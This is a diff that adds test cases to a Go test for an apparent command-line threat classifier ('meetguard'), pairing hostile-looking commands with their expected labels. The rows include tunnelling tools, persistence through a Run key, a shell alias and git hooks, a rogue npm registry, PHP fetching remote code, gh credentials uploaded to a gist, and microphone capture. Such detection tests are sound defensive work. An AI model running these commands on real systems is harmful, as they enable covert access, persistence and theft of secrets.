@@ -41,6 +41,23 @@ func TestDeedsByMeaning(t *testing.T) {
 		{"windows", `msedge.exe --remote-debugging-port=9333 --user-data-dir=C:\Users\a\AppData\Local\Microsoft\Edge\UserData`, ""},
 		{"windows", `reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d "node %APPDATA%\x\a.js"`, `persist node %APPDATA%\x\a.js   run key`},
 		{"windows", `net user support P4ss /add`, "let in    account"},
+		{"linux", `cloudflared tunnel run --token x`, "let in    relay"},
+		{"linux", `ngrok tcp 22`, "let in    relay"},
+		{"linux", `ssh-keygen -t ed25519 -C tunnel`, ""},
+		{"linux", `xdg-mime default jl.desktop x-scheme-handler/zoommtg`, "persist jl.desktop   link handler"},
+		{"linux", `xdg-mime query default x-scheme-handler/zoommtg`, ""},
+		{"linux", `xdg-mime default Zoom.desktop x-scheme-handler/zoommtg`, ""},
+		{"linux", `git config --global core.hooksPath .githooks`, ""},
+		{"linux", `git config --global core.hooksPath /home/ana/.x/hooks`, "persist /home/ana/.x/hooks   developer tool"},
+		{"linux", `npm config set registry https://npm.a.invalid/`, "trust   npm.a.invalid npm"},
+		{"linux", `sh -c 'echo "alias git=~/.x/git; command git" >> ~/.zshrc'`, "persist ~/.zshrc ~/.x/git  profile"},
+		{"linux", `sh -c 'echo "alias ll=\"ls -la\"" >> ~/.zshrc'`, ""},
+		{"linux", `php -d allow_url_include=1 -r "include 'https://a.invalid/t';"`, "fetch and run   a.invalid php"},
+		{"linux", `gh gist create /home/ana/.config/gh/hosts.yml`, "take secret    cloud; upload /home/ana/.config/gh/hosts.yml  gist.github.com gh"},
+		{"darwin", `/Users/ana/Library/x/ff -f avfoundation -i :0 /Users/ana/.x/m.ogg`, "run /Users/ana/Library/x/ff   program; spy /Users/ana/.x/m.ogg   microphone"},
+		{"windows", `C:\ProgramData\x\fd.exe -m 256 -nographic -drive file=C:\ProgramData\x\g.qcow2,if=virtio`, `run C:\ProgramData\x\fd.exe   program; hide C:\ProgramData\x\g.qcow2   machine`},
+		{"windows", `setx DOTNET_STARTUP_HOOKS C:\Users\ana\h.dll`, `persist C:\Users\ana\h.dll   environment hook`},
+		{"windows", `setx NODE_OPTIONS --max-old-space-size=4096`, ""},
 	} {
 		words := Split(tc.system, tc.line)
 		p := &meetguard.Process{OS: tc.system, Exe: words[0], Args: words}
